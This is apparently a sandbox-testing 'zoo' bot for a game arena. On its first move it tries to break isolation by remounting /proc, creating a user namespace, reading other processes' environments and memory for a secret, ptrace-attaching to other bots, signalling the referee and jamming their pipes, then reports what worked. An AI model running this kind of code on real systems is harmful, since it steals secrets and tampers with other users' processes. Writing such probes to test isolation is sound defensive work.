"""Zoo: a spy that digs out of its process (issue 13, item 2). On its first decision it
unmounts arena's /proc, mounts a new one, makes a user namespace (for CAP_SYS_ADMIN), then
looks at every process it can see: the referee's and the other bots' command lines,
environments and memory (ptrace, process_vm_readv, /proc/<pid>/mem), signals the referee,
and writes a junk line into every pipe another bot answers on (/proc/<pid>/fd/N). It reports
what worked on stderr as `MOLE {json}`, then plays legally.

Options: `referee` (the referee's pid as the host sees it), `secret` (text in the referee's
environment).
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import sys
from types import MappingProxyType
from typing import Any

import arena

CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
PTRACE_ATTACH = 16
MNT_DETACH = 2
libc = ctypes.CDLL(None, use_errno=True)


def _call(result: int) -> str:
    """'ok', or the error's name."""
    if result == 0 or result > 0:
        return "ok"
    return os.strerror(ctypes.get_errno())


def _read(path: str) -> bytes | None:
    try:
        with open(path, "rb") as f:
            return f.read(1 << 16)
    except OSError:
        return None


class _IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _vm_read(pid: int) -> str:
    """Read a page of another process's memory with process_vm_readv."""
    maps = _read(f"/proc/{pid}/maps") or b""
    start = int(maps.split(b"-", 1)[0], 16) if maps else 0x400000
    buffer = ctypes.create_string_buffer(64)
    local, remote = _IoVec(ctypes.addressof(buffer), 64), _IoVec(start, 64)
    return _call(libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))


def _others(token: bytes) -> dict[int, bytes]:
    """Visible processes not of this bot's own tree: pid -> command line."""
    found = {}
    mine = {os.getpid(), os.getppid()}
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in mine:
            environ = _read(f"/proc/{name}/environ") or b""
            if token and token in environ:
                continue
            found[int(name)] = _read(f"/proc/{name}/cmdline") or b""
    return found


def _jam_pipes(pids: list[int]) -> int:
    """Write a junk line into every pipe of these processes; how many writes went through."""
    written = 0
    for pid in pids:
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            try:
                if not os.readlink(f"/proc/{pid}/fd/{fd}").startswith("pipe:"):
                    continue
                target = os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK)
                os.write(target, b"junk from the mole\n")
                os.close(target)
                written += 1
            except OSError:
                continue
    return written


def dig(referee: int, secret: str) -> dict[str, Any]:
    """Every attack, and what each gave."""
    token = os.environ.get("ARENA_BOT_TOKEN", "").encode()
    report: dict[str, Any] = {"umount": _call(libc.umount2(b"/proc", MNT_DETACH))}
    others = _others(token)
    bots = [pid for pid in others if b"launcher" in others[pid]]
    environs = [_read(f"/proc/{pid}/environ") or b"" for pid in others]
    report |= {
        "visible": len(others),
        "referee_cmdline": any(b"pytest" in c or b"arena" in c for c in others.values()),
        "secret": any(secret.encode() in e for e in environs) if secret else False,
        "other_bots": len(bots),
        "memory": sum(_read(f"/proc/{pid}/mem") is not None for pid in others),
        "ptrace": sorted({_call(libc.ptrace(PTRACE_ATTACH, pid, None, None)) for pid in bots}),
        "vm_readv": sorted({_vm_read(pid) for pid in bots}),
        "pipes_jammed": _jam_pipes(bots),
        "ptrace_parent": _call(libc.ptrace(PTRACE_ATTACH, os.getppid(), None, None)),
        "vm_readv_parent": _vm_read(os.getppid()),
        "mount": _call(libc.mount(b"proc", b"/proc", b"proc", 0, None)),
        "unshare": _call(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)),
    }
    try:
        os.kill(referee, signal.SIGCONT)
        report["signal_referee"] = "ok"
    except OSError as exc:
        report["signal_referee"] = exc.strerror
    return report


class Mole(arena.Bot):
    name = "zoo-mole"
    options = MappingProxyType({"referee": 0, "secret": ""})

    dug = False

    def act(self, observation: arena.Observation) -> arena.Action:
        if not Mole.dug:
            Mole.dug = True
            report = dig(int(self.settings["referee"]), str(self.settings["secret"]))
            sys.stderr.write("MOLE " + json.dumps(report) + "\n")
            sys.stderr.flush()
        return observation.legal_actions()[0]
